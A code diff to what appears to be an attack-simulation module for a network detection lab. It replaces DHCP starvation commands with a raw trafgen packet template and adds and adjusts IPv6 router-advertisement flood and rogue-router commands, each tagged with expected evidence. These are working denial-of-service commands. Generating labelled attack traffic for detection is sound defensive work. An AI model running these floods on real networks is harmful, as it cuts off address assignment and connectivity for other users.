@@ -52,37 +52,28 @@ def forged_dhcp(c):
                            c.choose("00:0c:29", "08:00:27", "52:54:00", "de:ad:be")), evidence=(Evidence("dhcp"),))
 
 
-@attack("dhcp_starvation", technique=EXHAUSTION, tool="yersinia", origins=BOX, needs=("dhcp",), packages=("yersinia",),
-        seconds=20)
-def yersinia(c):
-    # It sends as fast as it can, so it gets a tenth of a second at a time.
-    return Assault(f"for round in $(seq {c.between(1, 3)}); do timeout -s KILL {c.between(0.08, 0.15)} yersinia dhcp -attack 1"
-                   f" -interface {c.host.device} < <(sleep 1) >/dev/null 2>&1; sleep {c.between(0.5, 3.0)}; done",
+@attack("dhcp_starvation", technique=EXHAUSTION, tool="trafgen", origins=BOX, needs=("dhcp",), packages=("netsniff-ng",),
+        seconds=25)
+def trafgen_dhcp(c):
+    # Bytes 14 to 33 are the IPv4 header; discoveries of clients with random hardware addresses.
+    client = f"{c.choose('0x00, 0x0c, 0x29', '0x02, 0x42, 0xac', '0x52, 0x54, 0x00')}, drnd(3)"
+    packet = (f"{{ fill(0xff, 6), {client}, 0x08, 0x00, 0x45, 0x10, c16(272), drnd(2), 0x00, 0x00, {c.between(16, 128)}, 17,"
+              " csumip(14, 33), fill(0x00, 4), fill(0xff, 4), c16(68), c16(67), c16(252), 0x00, 0x00,"
+              f" 0x01, 0x01, 0x06, 0x00, drnd(4), 0x00, 0x00, 0x80, 0x00, fill(0x00, 16), {client}, fill(0x00, 202),"
+              " 0x63, 0x82, 0x53, 0x63, 0x35, 0x01, 0x01, 0xff }")
+    config = c.write("discover.cfg", packet + "\n")
+    return Assault(f"trafgen -P 1 -q -n {c.between(60, 250)} -t {c.between(20, 90)}ms -o {c.host.device} -c {config}",
                    evidence=(Evidence("dhcp"),))
-
-
-@attack("dhcp_starvation", technique=EXHAUSTION, tool="dhcpig", origins=BOX, needs=("dhcp",), packages=("dhcpig",), seconds=30)
-def dhcpig(c):
-    return Assault(f"timeout -s INT -k 2 {c.between(8, 20)} dhcpig -c -v0 -n -a -l -r -x {c.between(1, 8)}"
-                   f" -y {c.between(1, 3)} {c.host.device}", evidence=(Evidence("dhcp"),))
 
 
 def advertisements(c) -> tuple[Evidence, ...]:
     return (Evidence("icmp6", ports=(134,)),)
 
 
-@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="flood_router26", origins=BOX, packages=("thc-ipv6",), seconds=20)
-def flood_routers(c):
-    # It sends as fast as it can, so it gets a few hundredths of a second at a time.
-    tool = c.choose("atk6-flood_router26", "atk6-flood_router26 -s", "atk6-flood_router26 -S", "atk6-flood_router6")
-    return Assault(f"for round in $(seq {c.between(2, 5)}); do timeout -s KILL {c.between(0.03, 0.08)} {tool} {c.host.device}"
-                   f" >/dev/null 2>&1; sleep {c.between(0.3, 3.0)}; done", evidence=advertisements(c))
-
-
 @attack("ipv6_ra_flood", technique=EXHAUSTION, tool="scapy", origins=BOX, packages=("python3-scapy",), seconds=30)
 def forged_routers(c):
-    return Assault(program("forge.py", "router", "--interface", c.host.device, "--count", c.between(40, 400), "--pause",
-                           c.between(0.005, 0.1), "--seed", c.between(1, 10**6), "--vendor",
+    return Assault(program("forge.py", "router", "--interface", c.host.device, "--count", c.between(40, 200), "--pause",
+                           c.between(0.02, 0.2), "--seed", c.between(1, 10**6), "--vendor",
                            c.choose("00:0c:29", "08:00:27", "52:54:00")), evidence=advertisements(c))
 
 
@@ -91,3 +82,11 @@ def fake_router(c):
     prefix = f"2001:db8:{c.between(1, 9999)}::/64"
     return Assault(f"timeout -s INT {c.between(6, 18)} atk6-fake_router26 -A {prefix} -i {c.between(1, 3)}"
                    f" -p {c.choose('low', 'medium', 'high')} {c.host.device}", evidence=advertisements(c))
+
+
+@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="fake_router6", origins=BOX, packages=("thc-ipv6",), seconds=40)
+def fake_old_router(c):
+    prefix = f"2001:db8:{c.between(1, 9999):x}::/64"
+    return Assault(f"for router in $(seq {c.between(1, 4)}); do timeout -s INT {c.between(11, 32)} atk6-fake_router6"
+                   f" {c.host.device} {prefix} {c.choose('', '1280', '1500')} & sleep {c.between(0.1, 2.0)}; done; wait",
+                   evidence=advertisements(c))
